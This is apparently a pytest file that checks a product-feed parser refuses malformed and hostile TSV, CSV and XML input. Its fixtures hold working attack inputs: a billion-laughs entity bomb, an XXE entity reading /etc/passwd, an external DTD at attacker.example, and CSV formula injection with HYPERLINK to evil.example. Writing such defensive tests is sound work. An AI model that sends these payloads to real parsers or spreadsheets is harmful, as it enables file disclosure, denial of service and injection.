"""Malformed, huge and hostile feeds: a whole-file FeedError (nothing planned) or a refusal
naming the row, never a crash, a half plan or an expanded entity."""

from __future__ import annotations

import tracemalloc

import pytest

from server.shows.feeds import (
    FeedError,
    FileErrorCode,
    ImportOptions,
    ImportPlan,
    Limits,
    RefusalCode,
    parse_feed,
)

HEADER = "id\ttitle\tprice\titem_group_id\tsize\n"


def tsv(*rows: str) -> bytes:
    return (HEADER + "".join(row + "\n" for row in rows)).encode()


def refused_file(data: bytes, options: ImportOptions | None = None) -> FeedError:
    with pytest.raises(FeedError) as caught:
        parse_feed(data, options)
    return caught.value


def reasons(plan: ImportPlan) -> list[tuple[int, str | None, RefusalCode]]:
    return [(r.line, r.source_id, r.reason) for r in plan.refused]


# -- encoding ----------------------------------------------------------------------------


def test_latin1_bytes_refuse_the_file_naming_the_line() -> None:
    data = (HEADER + "A1\tMug\t5.00 EUR\t\t\nA2\tCaf\xe9 cup\t6.00 EUR\t\t\n").encode("latin-1")
    error = refused_file(data)
    assert (error.code, error.line) == (FileErrorCode.BAD_ENCODING, 3)
    assert "UTF-8" in str(error)


def test_utf16_and_nul_bytes_are_refused() -> None:
    assert refused_file(tsv("A1\tMug\t5.00 EUR\t\t").decode().encode("utf-16")).code is FileErrorCode.BAD_ENCODING
    error = refused_file(tsv("A1\tMug\x00\t5.00 EUR\t\t"))
    assert (error.code, error.line) == (FileErrorCode.BAD_ENCODING, 2)


def test_utf8_bom_is_accepted() -> None:
    plan = parse_feed(b"\xef\xbb\xbf" + tsv("A1\tMug\t5.00 EUR\t\t"))
    assert [d.group for d in plan.drops] == ["A1"]


# -- size --------------------------------------------------------------------------------


def test_oversized_file_is_refused_before_parsing() -> None:
    big = tsv("A1\tMug\t5.00 EUR\t\t") + b"x" * (20 * 1024 * 1024)
    assert refused_file(big).code is FileErrorCode.TOO_LARGE
    small_cap = ImportOptions(limits=Limits(max_bytes=100))
    assert refused_file(tsv(*["A1\tMug\t5.00 EUR\t\t"] * 10), small_cap).code is FileErrorCode.TOO_LARGE


def test_too_many_rows_refuse_the_whole_file() -> None:
    capped = ImportOptions(limits=Limits(max_rows=3))
    ok = parse_feed(tsv(*[f"A{i}\tMug\t5.00 EUR\t\t" for i in range(3)]), capped)
    assert len(ok.drops) == 3
    error = refused_file(tsv(*[f"A{i}\tMug\t5.00 EUR\t\t" for i in range(4)]), capped)
    assert (error.code, error.line) == (FileErrorCode.TOO_MANY_ROWS, 5)
    items = "".join(f"<item><g:id>A{i}</g:id><title>T</title><g:price>1 EUR</g:price></item>\n" for i in range(4))
    xml = f'<rss xmlns:g="http://base.google.com/ns/1.0"><channel>\n{items}</channel></rss>'.encode()
    error = refused_file(xml, capped)
    assert (error.code, error.line) == (FileErrorCode.TOO_MANY_ROWS, 5)


def test_too_many_columns() -> None:
    header = "\t".join(["id", "title", "price", *[f"c{i}" for i in range(600)]])
    assert refused_file(f"{header}\n".encode()).code is FileErrorCode.TOO_MANY_COLUMNS


# -- hostile XML -------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss xmlns:g="http://base.google.com/ns/1.0"><channel>
<item><g:id>A1</g:id><title>&lol9;</title><g:price>1.00 EUR</g:price></item>
</channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss xmlns:g="http://base.google.com/ns/1.0"><channel>
<item><g:id>A1</g:id><title>&xxe;</title><g:price>1.00 EUR</g:price></item>
</channel></rss>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/feed.dtd">
<rss xmlns:g="http://base.google.com/ns/1.0"><channel>
<item><g:id>A1</g:id><title>Mug</title><g:price>1.00 EUR</g:price></item>
</channel></rss>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "dtd"])
def test_entity_expansion_and_external_entities_are_refused(document: bytes) -> None:
    error = refused_file(document)
    assert (error.code, error.line) == (FileErrorCode.FORBIDDEN_XML, 2)
    assert "DTD" in str(error)


def test_malformed_xml_names_the_line() -> None:
    xml = b'<rss xmlns:g="http://base.google.com/ns/1.0"><channel>\n<item><g:id>A1</g:id>\n<title>Mug</titel>\n'
    error = refused_file(xml)
    assert (error.code, error.line) == (FileErrorCode.MALFORMED, 3)


def test_xml_without_items_is_empty() -> None:
    assert refused_file(b"<rss><channel><title>x</title></channel></rss>").code is FileErrorCode.EMPTY


def test_deeply_nested_xml_is_not_a_crash() -> None:
    depth = 200_000
    xml = b"<rss><channel><item><g:id xmlns:g='http://base.google.com/ns/1.0'>A1</g:id>"
    xml += b"<x>" * depth + b"</x>" * depth + b"<title>Mug</title><price>1 EUR</price></item></channel></rss>"
    plan = parse_feed(xml)
    assert [(d.group, d.prices) for d in plan.drops] == [("A1", {"EUR": 100})]


def test_overlong_xml_field_refuses_the_item() -> None:
    capped = ImportOptions(limits=Limits(max_field_chars=50))
    xml = (
        '<rss xmlns:g="http://base.google.com/ns/1.0"><channel>\n'
        f"<item><g:id>A1</g:id><title>Mug</title><g:description>{'x' * 51}</g:description>"
        "<g:price>1 EUR</g:price></item>\n"
        "<item><g:id>A2</g:id><title>Cup</title><g:price>1 EUR</g:price></item>\n"
        "</channel></rss>"
    ).encode()
    plan = parse_feed(xml, capped)
    assert reasons(plan) == [(2, "A1", RefusalCode.FIELD_TOO_LONG)]
    assert [d.group for d in plan.drops] == ["A2"]


# -- CSV formula injection (OWASP) ---------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_in_title_are_refused(start: str) -> None:
    title = f'"{start}HYPERLINK(""http://evil.example"")"'
    data = f"id,title,price\nA1,{title},5.00 EUR\nA2,Mug,5.00 EUR\n".encode()
    plan = parse_feed(data)
    assert [d.group for d in plan.drops] == ["A2"]
    assert reasons(plan) == [(2, "A1", RefusalCode.FORMULA)]


def test_formula_in_option_value_and_sku() -> None:
    plan = parse_feed(tsv("A1\tTee\t5.00 EUR\tTEE\t=1+1", "+1-2\tTee\t5.00 EUR\tTEE\tM", "A3\tTee\t5.00 EUR\tTEE\tL"))
    assert reasons(plan) == [(2, "A1", RefusalCode.FORMULA), (3, "+1-2", RefusalCode.FORMULA)]
    assert [v.sku for v in plan.drops[0].variants] == ["A3"]


def test_shopify_formula_in_option_name_refuses_the_product() -> None:
    data = (
        b"Handle,Title,Option1 Name,Option1 Value,Variant SKU,Variant Price\n"
        b"tee,Tee,@SUM(A1),M,TEE-M,5.00\n"
        b",,,L,TEE-L,5.00\n"
        b"cup,Cup,Title,Default Title,CUP-1,3.00\n"
    )
    plan = parse_feed(data, ImportOptions(currency="EUR"))
    assert reasons(plan) == [(2, "TEE-M", RefusalCode.FORMULA), (3, "TEE-L", RefusalCode.FORMULA)]
    assert "line 2" in plan.refused[1].message
    assert [d.group for d in plan.drops] == ["cup"]


# -- headers and delimiters ----------------------------------------------------------------


def test_missing_header() -> None:
    error = refused_file(b"A1\tMug\t5.00 EUR\nA2\tCup\t4.00 EUR\n")
    assert error.code is FileErrorCode.MISSING_HEADER
    assert refused_file(b"\n\n  \n").code is FileErrorCode.EMPTY


def test_missing_mandatory_column() -> None:
    error = refused_file(b"\nid\ttitle\timage_link\nA1\tMug\thttps://x.example/a.jpg\n")
    assert (error.code, error.line) == (FileErrorCode.MISSING_COLUMN, 2)
    assert "price" in str(error)
    shopify = refused_file(b"Handle,Title,Variant SKU\nmug,Mug,M1\n", ImportOptions(currency="EUR"))
    assert shopify.code is FileErrorCode.MISSING_COLUMN


def test_wrong_delimiter() -> None:
    error = refused_file(b"id;title;price\nA1;Mug;5.00 EUR\n")
    assert (error.code, error.line) == (FileErrorCode.WRONG_DELIMITER, 1)


def test_row_with_wrong_field_count_is_refused_alone() -> None:
    plan = parse_feed(b"id\ttitle\tprice\nA1,Mug,5.00 EUR\nA2\tCup\t4.00 EUR\n")
    assert reasons(plan) == [(2, None, RefusalCode.BAD_ROW)]
    assert "tab" in plan.refused[0].message
    assert [d.group for d in plan.drops] == ["A2"]


def test_duplicate_header_column_and_bad_quoting() -> None:
    assert refused_file(b"id\ttitle\tprice\tprice\nA1\tMug\t1 EUR\t2 EUR\n").code is FileErrorCode.MALFORMED
    error = refused_file(b'id,title,price\nA1,"Mug"x,5.00 EUR\n')
    assert (error.code, error.line) == (FileErrorCode.MALFORMED, 2)


# -- field lengths -------------------------------------------------------------------------


def test_overlong_fields() -> None:
    plan = parse_feed(tsv(f"A1\t{'T' * 201}\t5.00 EUR\t\t", f"{'B' * 129}\tMug\t5.00 EUR\t\t", "A3\tMug\t1 EUR\t\t"))
    assert reasons(plan) == [(2, "A1", RefusalCode.FIELD_TOO_LONG), (3, "B" * 129, RefusalCode.BAD_ID)]
    capped = ImportOptions(limits=Limits(max_field_chars=20))
    plan = parse_feed(b"id\ttitle\tprice\tdescription\nA1\tMug\t1 EUR\t" + b"d" * 21 + b"\n", capped)
    assert reasons(plan) == [(2, None, RefusalCode.FIELD_TOO_LONG)]
    # Past the csv module's own cap (128 KiB) the file cannot be read at all.
    huge = refused_file(b'id,title,price\nA1,"' + b"x" * 200_000 + b'",1 EUR\n')
    assert (huge.code, huge.line) == (FileErrorCode.FIELD_TOO_LONG, 2)


# -- row rules -----------------------------------------------------------------------------


def test_duplicate_ids_refuse_every_copy() -> None:
    plan = parse_feed(tsv("A1\tMug\t5.00 EUR\t\t", "A2\tCup\t4.00 EUR\t\t", "A1\tMug v2\t6.00 EUR\t\t"))
    assert reasons(plan) == [(2, "A1", RefusalCode.DUPLICATE_ID), (4, "A1", RefusalCode.DUPLICATE_ID)]
    assert "line(s) 4" in plan.refused[0].message
    assert [d.group for d in plan.drops] == ["A2"]


def test_duplicate_option_values_in_a_group_refuse_both() -> None:
    plan = parse_feed(tsv("T-M\tTee\t5 EUR\tTEE\tM", "T-M2\tTee\t5 EUR\tTEE\tM", "T-L\tTee\t5 EUR\tTEE\tL"))
    assert [r.reason for r in plan.refused] == [RefusalCode.DUPLICATE_VARIANT] * 2
    assert [v.sku for v in plan.drops[0].variants] == ["T-L"]


def test_mixed_currency_in_a_group() -> None:
    plan = parse_feed(tsv("T-M\tTee\t5 EUR\tTEE\tM", "T-L\tTee\t6 USD\tTEE\tL"))
    assert reasons(plan) == [(3, "T-L", RefusalCode.MIXED_CURRENCY)]


def test_too_many_variants() -> None:
    capped = ImportOptions(limits=Limits(max_variants=2))
    plan = parse_feed(tsv(*[f"T{i}\tTee\t5 EUR\tTEE\t{i}" for i in range(3)]), capped)
    assert reasons(plan) == [(4, "T2", RefusalCode.TOO_MANY_VARIANTS)]


def test_missing_fields_bad_ids_and_availability() -> None:
    data = (
        b"id\ttitle\tprice\tavailability\tquantity_to_sell_on_facebook\n"
        b"A1\t\t5.00 EUR\tin stock\t1\n"
        b"A 2\tMug\t5.00 EUR\tin stock\t1\n"
        b"A3\tMug\t5.00 EUR\tsold out\t1\n"
        b"A4\tMug\t5.00 EUR\tdiscontinued\t1\n"
        b"A5\tMug\t5.00 EUR\tin stock\t-1\n"
        b"A6\tMug\t5.00 EUR\tin stock\t2.5\n"
        b"A7\tMug\t5.00 ZZZ\tin stock\t1\n"
        b"A8\tMug\t5.00 EUR\tin stock\t7\n"
    )
    plan = parse_feed(data)
    assert reasons(plan) == [
        (2, "A1", RefusalCode.MISSING_FIELD),
        (3, "A 2", RefusalCode.BAD_ID),
        (4, "A3", RefusalCode.BAD_AVAILABILITY),
        (5, "A4", RefusalCode.DISCONTINUED),
        (6, "A5", RefusalCode.BAD_QUANTITY),
        (7, "A6", RefusalCode.BAD_QUANTITY),
        (8, "A7", RefusalCode.UNKNOWN_CURRENCY),
    ]
    assert [(d.group, d.variants[0].stock) for d in plan.drops] == [("A8", 7)]


def test_sale_price_must_be_a_lower_price_in_the_same_currency() -> None:
    header = "id\ttitle\tprice\tsale_price\tsale_price_effective_date\n"
    rows = "A1\tMug\t5.00 EUR\t6.00 EUR\t\nA2\tMug\t5.00 EUR\t4.00 USD\t\nA3\tMug\t5.00 EUR\t4.00 EUR\tsoon\n"
    plan = parse_feed((header + rows).encode())
    assert [r.reason for r in plan.refused] == [RefusalCode.BAD_PRICE] * 3
    assert plan.drops == []


def test_bad_image_urls() -> None:
    header = "id\ttitle\tprice\timage_link\n"
    rows = "A1\tMug\t1 EUR\tjavascript:alert(1)\nA2\tMug\t1 EUR\t/img/a.jpg\nA3\tMug\t1 EUR\thttp://[::1\n"
    plan = parse_feed((header + rows).encode())
    assert [r.reason for r in plan.refused] == [RefusalCode.BAD_URL] * 3


def test_shopify_rows_before_any_handle_and_products_without_title() -> None:
    data = (
        b"Handle,Title,Variant SKU,Variant Price\n"
        b",,ORPHAN-1,5.00\n"
        b"mug,,MUG-1,5.00\n"
        b"mug,,MUG-2,5.00\n"
        b"cup,Cup,CUP-1,3.00\n"
    )
    plan = parse_feed(data, ImportOptions(currency="EUR"))
    assert reasons(plan) == [
        (2, "ORPHAN-1", RefusalCode.MISSING_FIELD),
        (3, "MUG-1", RefusalCode.MISSING_FIELD),
        (4, "MUG-2", RefusalCode.MISSING_FIELD),
    ]
    assert [d.group for d in plan.drops] == ["cup"]


def test_unknown_host_currency_is_refused() -> None:
    data = b"Handle,Title,Variant SKU,Variant Price\nmug,Mug,M1,5.00\n"
    assert refused_file(data, ImportOptions(currency="ZZZ")).code is FileErrorCode.CURRENCY_REQUIRED


def test_many_empty_columns_do_not_blow_up_memory() -> None:
    """A 4.6 MB TSV of 9,000 rows x 500 mostly empty columns: only the columns LiveDrop reads
    are kept (about 25 MiB at peak here, against 136 MiB when every cell was kept)."""
    extra = 497
    header = "\t".join(["id", "title", "price", *[f"c{i}" for i in range(extra)]])
    rows = "".join(f"A{i}\tMug\t1 EUR{chr(9) * extra}\n" for i in range(9000))
    data = f"{header}\n{rows}".encode()
    tracemalloc.start()
    try:
        plan = parse_feed(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(plan.drops) == 9000
    assert peak < 64 * 1024 * 1024, f"peak {peak:,} bytes"


@pytest.mark.parametrize("page", [b"<!DOCTYPE html>\n<html><body>Sign in</body></html>", b"  <HTML><p>502</p></HTML>"])
def test_an_html_page_is_not_a_feed(page: bytes) -> None:
    error = refused_file(page)
    assert error.code is FileErrorCode.UNKNOWN_FORMAT
    assert "HTML page" in str(error)


def test_limits_must_be_positive() -> None:
    with pytest.raises(ValueError, match="max_rows"):
        Limits(max_rows=0)


@pytest.mark.parametrize("char", ["\x07", "\x1b", "\x85", "\u202e", "\u2066"])
def test_control_and_bidi_override_characters_in_titles(char: str) -> None:
    plan = parse_feed(tsv(f"A1\tMug{char}gum\t5.00 EUR\t\t", "A2\tCup \u00e9\u200d\U0001f375\t4.00 EUR\t\t"))
    assert reasons(plan) == [(2, "A1", RefusalCode.BAD_ROW)]
    assert [d.title for d in plan.drops] == ["Cup \u00e9\u200d\U0001f375"]  # ordinary Unicode is fine
